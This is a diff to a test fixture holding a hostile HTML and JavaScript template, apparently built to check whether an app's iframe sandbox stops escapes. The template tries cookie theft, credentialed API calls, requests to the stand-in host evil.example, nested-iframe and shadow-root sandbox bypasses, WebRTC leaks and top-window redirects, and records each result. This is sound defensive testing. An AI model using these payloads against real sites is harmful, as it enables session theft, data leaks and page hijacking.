@@ -18,6 +18,7 @@ export const hostileTemplate = `<p>\${text}</p><pre id=report></pre>
 <style>@import url("https://evil.example/import.css"); #report { background: url("https://evil.example/css.png") }</style>
 <img src="https://evil.example/pixel.png?SELF"><object data="https://evil.example/object"></object>
 <iframe src="https://evil.example/frame"></iframe>
+<div><template shadowrootmode=closed><iframe srcdoc="<script>parent.postMessage('inside declared', '*')</script>"></iframe></template></div>
 <script>
 var report = {}, evil = 'https://evil.example/', tries = [], app = 'http://localhost:APP_PORT';
 function attempt(name, act) {
@@ -27,6 +28,17 @@ function attempt(name, act) {
 function later(name, act) {
   tries.push(Promise.race([new Promise(function (done) { done(act()); }), new Promise(function (_, no) { setTimeout(no, 3000); })])
     .then(function (got) { report[name] = 'reached: ' + got; }, function () { report[name] = 'refused'; }));
+}
+/** A document whose scripts have everything that was taken away out here. */
+function writeInside(name) {
+  return '<script>parent.postMessage("inside ' + name + '", "*");' +
+    'var peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN_ADDRESS" }] }); peer.createDataChannel("x");' +
+    'peer.createOffer().then(function (offer) { peer.setLocalDescription(offer); })<\\/script>';
+}
+function makeInside(name) {
+  var frame = document.createElement('iframe');
+  frame.srcdoc = writeInside(name);
+  return frame;
 }
 var cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
 var child = document.createElement('iframe');
@@ -38,7 +50,6 @@ attempt('01 top address', function () { return top.location.href; });
 attempt('01 frame element', function () { return frameElement.tagName; });
 attempt('02 cookie', function () { return cookie.get.call(document); });
 attempt('02 cookie of the app', function () { cookie.set.call(document, 'session=evil; Domain=localhost'); return 'set'; });
-attempt('03 storage', function () { return other.localStorage.length; });
 attempt('03 left by another page', function () { var was = localStorage.getItem('left'); localStorage.setItem('left', 'yes'); return was; });
 attempt('03 databases', function () { return indexedDB.open('x') && 'opened'; });
 later('03 caches', function () { return caches.open('x'); });
@@ -47,13 +58,26 @@ attempt('04 worker', function () { new Worker(URL.createObjectURL(new Blob(['pos
 attempt('05 top', function () { top.location = evil; });
 attempt('05 top replaced', function () { top.location.replace(evil); });
 attempt('06 window', function () { return window.open(evil); });
-attempt('06 window of a child', function () { return other.open(evil + 'popup'); });
+attempt('06 opener', function () { return opener; });
 attempt('07 own sandbox', function () { frameElement.removeAttribute('sandbox'); });
-attempt('07 frame again', function () {
-  var again = document.createElement('iframe');
-  again.srcdoc = '<script>try { report = top.document.title } catch (e) { report = e.name } parent.postMessage("again " + report, "*")<\\/script>';
-  document.body.append(again);
+['put in', 'in a shadow', 'changed later', 'freed later', 'declared', 'written'].forEach(function (name) {
+  later('12 script inside, ' + name, function () {
+    return new Promise(function (done) {
+      addEventListener('message', function (event) { if (event.data === 'inside ' + name) done('ran'); });
+    });
+  });
 });
+document.body.append(makeInside('put in'));
+var host = document.body.appendChild(document.createElement('div'));
+host.attachShadow({ mode: 'closed' }).append(makeInside('in a shadow'));
+var changed = document.body.appendChild(document.createElement('iframe'));
+setTimeout(function () { changed.getAttribute = function () { return ''; }; changed.srcdoc = writeInside('changed later'); }, 100);
+var freed = document.createElement('iframe');
+freed.setAttribute('sandbox', '');
+document.body.append(freed);
+setTimeout(function () { freed.removeAttribute('sandbox'); freed.srcdoc = writeInside('freed later'); }, 100);
+document.write('<div><template shadowrootmode=closed><iframe srcdoc="' + writeInside('written').replace(/"/g, '&quot;') + '"></iframe></template></div>');
+attempt('07 constructor of a child', function () { return other.Function('return document.cookie')(); });
 attempt('08 data frame', function () {
   var frame = document.createElement('iframe');
   frame.src = 'data:text/html,<script>parent.postMessage("data ran", "*")<\\/script>';
@@ -61,7 +85,6 @@ attempt('08 data frame', function () {
 });
 later('10 fetch', function () { return fetch(evil); });
 later('10 api', function () { return fetch(app + '/graphql', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"query":"{ viewer { id } }"}' }); });
-later('10 api of a child', function () { return other.fetch(app + '/graphql', { credentials: 'include' }); });
 later('10 xhr', function () { return new Promise(function (yes, no) { var r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('GET', evil); r.send(); }); });
 later('10 socket', function () { return new Promise(function (yes, no) { var s = new WebSocket('wss://evil.example/'); s.onopen = yes; s.onerror = no; }); });
 later('10 events', function () { return new Promise(function (yes, no) { var s = new EventSource(evil); s.onopen = yes; s.onerror = no; }); });
@@ -79,7 +102,6 @@ attempt('16 privileges', function () {
   });
   parent.postMessage({ exchange: 1, nonce: nonce, type: 'height', height: 100000 }, '*');
 });
-attempt('17 dialogs', function () { other.alert('x'); other.confirm('x'); other.print(); return 'went on'; });
 later('17 full screen', function () { return document.documentElement.requestFullscreen(); });
 later('17 pointer', function () { return document.documentElement.requestPointerLock(); });
 later('18 camera', function () { return navigator.mediaDevices.getUserMedia({ video: true, audio: true }); });
@@ -98,11 +120,11 @@ var endings = {
   'leave by refresh': function () { document.head.innerHTML += '<meta http-equiv=refresh content="0;url=https://evil.example/refresh">'; },
   'become data': function () { location.href = 'data:text/html,<h1>evil</h1>'; },
   'become a blob': function () { location.href = URL.createObjectURL(new Blob(['<h1>evil</h1>'], { type: 'text/html' })); },
-  'post outside': function () { other.HTMLFormElement.prototype.submit.call(document.getElementById('outside')); },
-  'post to the app': function () { var form = document.getElementById('outside'); form.action = app + '/api/auth/sign-out'; other.HTMLFormElement.prototype.submit.call(form); },
+  'post outside': function () { document.getElementById('outside').submit(); },
+  'post to the app': function () { var form = document.getElementById('outside'); form.action = app + '/api/auth/sign-out'; form.submit(); },
   'press the other address': function () { document.getElementById('elsewhere').click(); },
   'take the top': function () { try { top.location = evil; } catch (error) { document.title = error.name; } document.getElementById('top').click(); window.open(evil + 'clicked', '_top'); },
-  'go back': function () { history.back(); other.history.go(-2); },
+  'go back': function () { history.back(); history.go(-2); },
   'cover everything': function () {
     document.body.innerHTML += '<div style="position:fixed;inset:-1000px;z-index:2147483647;background:red;height:900000px">covered</div>' + '<i></i>'.repeat(150000);
   },
@@ -120,6 +142,6 @@ Object.keys(endings).forEach(function (name) {
   button.type = 'button'; button.textContent = name; button.onclick = endings[name];
   document.getElementById('buttons').append(button);
 });
-addEventListener('message', function (event) { if (/^(again|data)/.test(event.data)) report['07 ' + event.data] = 'said'; });
+addEventListener('message', function (event) { if (/^data/.test(event.data)) report['07 ' + event.data] = 'said'; });
 Promise.all(tries).then(function () { document.getElementById('report').textContent = JSON.stringify(report); });
 </script>`;
